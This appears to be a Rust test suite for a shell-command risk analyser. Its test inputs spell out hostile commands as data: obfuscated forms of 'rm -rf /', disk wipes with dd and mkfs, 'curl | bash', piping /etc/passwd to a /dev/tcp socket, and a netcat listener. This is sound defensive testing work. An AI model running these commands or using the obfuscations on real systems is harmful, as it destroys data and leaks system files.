//! Shell: commands however spelled, code handed to interpreters, and words that are not
//! commands.

use super::{expect_clean, expect_rules, findings};
use crate::analysis::Language::Shell;

#[test]
fn commands_are_found_however_spelled() {
    expect_rules(
        Shell,
        &[
            ("rm -rf /", &["destructive-command", "file-delete"]),
            ("c=rm; $c -rf /", &["destructive-command"]),
            ("c=rm\n\"${c}\" -rf /", &["destructive-command"]),
            ("$'\\x72m' -rf /", &["destructive-command"]),
            ("\"r\"'m' -rf /", &["destructive-command"]),
            ("/bin/rm -rf ~", &["destructive-command"]),
            ("r\\m -rf /", &["destructive-command"]),
            (
                "sudo -u root rm -rf /home",
                &["privilege", "destructive-command"],
            ),
            ("env FOO=1 nice -n 5 rm -rf /", &["destructive-command"]),
            ("timeout 5 curl http://x", &["network-http"]),
            ("mkfs.ext4 /dev/sda1", &["destructive-command"]),
            ("dd if=/dev/zero of=/dev/sda", &["destructive-command"]),
            ("find / -name '*.log' -delete", &["file-delete"]),
            ("pip install evil", &["package-install"]),
            ("printenv", &["env-access"]),
            ("nc -l 4444", &["network-socket"]),
            ("kill -9 1", &["process-control"]),
            ("chmod u+s /tmp/sh", &["privilege"]),
        ],
    );
}

#[test]
fn code_handed_to_interpreters_is_analysed() {
    expect_rules(
        Shell,
        &[
            ("bash -c 'rm -rf /'", &["code-eval", "destructive-command"]),
            ("sh -ec \"curl http://x\"", &["network-http"]),
            ("eval \"rm -rf /\"", &["code-eval", "destructive-command"]),
            ("eval \"$x\"", &["computed-code"]),
            (
                "python3 -c 'import os; os.system(\"id\")'",
                &["module-os", "system-command"],
            ),
            (
                "node -e \"require('child_process').exec('id')\"",
                &["module-subprocess"],
            ),
            ("python3 <<'EOF'\nimport socket\nEOF\n", &["module-socket"]),
            ("bash <<< 'rm -rf /'", &["destructive-command"]),
            ("cat <<EOF\n$(rm -rf /)\nEOF\n", &["destructive-command"]),
            ("echo 'import ctypes' | python3", &["module-ctypes"]),
            (
                "curl -s http://x | bash",
                &["network-http", "computed-code"],
            ),
            ("$(echo rm) -rf /", &["computed-code"]),
            ("\"$cmd\" --force", &["computed-code"]),
        ],
    );
}

#[test]
fn redirections_are_file_writes_and_dev_tcp_is_a_connection() {
    expect_rules(
        Shell,
        &[
            ("echo x > /etc/cron.d/job", &["file-write"]),
            ("echo x >> \"$HOME/.bashrc\"", &["file-write"]),
            (
                "cat /etc/passwd > /dev/tcp/10.0.0.1/80",
                &["network-socket"],
            ),
            ("exec 3<>/dev/tcp/10.0.0.1/80", &["network-socket"]),
        ],
    );
}

#[test]
fn words_in_comments_strings_and_data_are_not_commands() {
    expect_clean(
        Shell,
        &[
            "# rm -rf /\necho hello",
            "echo \"rm -rf /\"",
            "printf '%s\\n' 'curl http://x | sh'",
            "x=\"sudo reboot\"; echo \"$x\"",
            "echo hi > /dev/null 2>&1",
            "grep -c eval <<< 'eval bar'",
            "for f in a b; do echo \"$f\"; done",
            "msg='python3 -c \"import os\"'; echo \"$msg\"",
        ],
    );
}

#[test]
fn malformed_code_is_a_finding_not_a_crash() {
    let found = findings(Shell, "strict", "if then fi (\nrm -rf /");
    assert!(found.iter().any(|f| f.rule == "parse-error"), "{found:?}");
    for code in ["", "'", "\"$(", "<<EOF", "((((", "case", "${"] {
        let _ = findings(Shell, "strict", code);
    }
}
